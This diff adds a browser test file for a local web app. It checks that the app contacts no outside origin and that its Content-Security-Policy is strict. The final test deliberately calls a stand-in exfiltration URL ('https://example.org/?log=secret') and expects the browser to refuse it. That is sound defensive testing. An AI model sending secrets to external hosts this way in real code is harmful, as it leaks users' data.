@@ -1,0 +1,53 @@
+/** Nothing leaves the machine: the policy is there, it bites, and no request goes anywhere else. */
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { finished } from "./support/actions.ts";
+import { startServer, temporaryFolder, type Visitor, visit } from "./support/product.ts";
+
+const folder = temporaryFolder();
+let server: Awaited<ReturnType<typeof startServer>>;
+let visitor: Visitor;
+
+beforeAll(async () => {
+  server = await startServer();
+  visitor = await visit(join(folder.path, "profile"));
+});
+
+afterAll(async () => {
+  await visitor?.close();
+  await server.stop();
+  folder.remove();
+});
+
+it("an analysis from the first screen to the last view asks no other origin and breaks no policy", async () => {
+  const { page, witness } = visitor;
+  await page.goto(server.url);
+  await page.getByRole("button", { name: "Try a sample" }).click();
+  await finished(page);
+  for (const name of ["Alerts", "Templates", "Lines", "Library", "Overview"]) {
+    await page.getByRole("navigation", { name: "Views" }).getByRole("button", { name }).click();
+    await page.getByRole("navigation", { name: "Views" }).locator("[aria-current=page]", { hasText: name }).waitFor();
+  }
+  expect(witness.requests.length).toBeGreaterThan(3);
+  expect(witness.requests.filter((url) => !url.startsWith(server.url) && !/^(?:blob|data):/.test(url))).toEqual([]);
+  expect(witness.complaints).toEqual([]);
+});
+
+it("the policy in the page names no origin but its own", async () => {
+  const policy = await visitor.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+  expect(policy).toMatch(/default-src 'none'/);
+  expect(policy).toMatch(/require-trusted-types-for 'script'/);
+  expect(policy).not.toMatch(/https?:|\*|unsafe-inline|'unsafe-eval'/);
+});
+
+it("the browser refuses what the page would send elsewhere", async () => {
+  const refused = await visitor.page.evaluate(async () => {
+    const violated: string[] = [];
+    document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
+    const attempts = [fetch("https://example.org/?log=secret"), fetch("http://127.0.0.1:9/")];
+    const outcomes = await Promise.allSettled(attempts);
+    return { outcomes: outcomes.map(({ status }) => status), violated };
+  });
+  expect(refused.outcomes).toEqual(["rejected", "rejected"]);
+  expect(refused.violated).toEqual(["connect-src", "connect-src"]);
+});
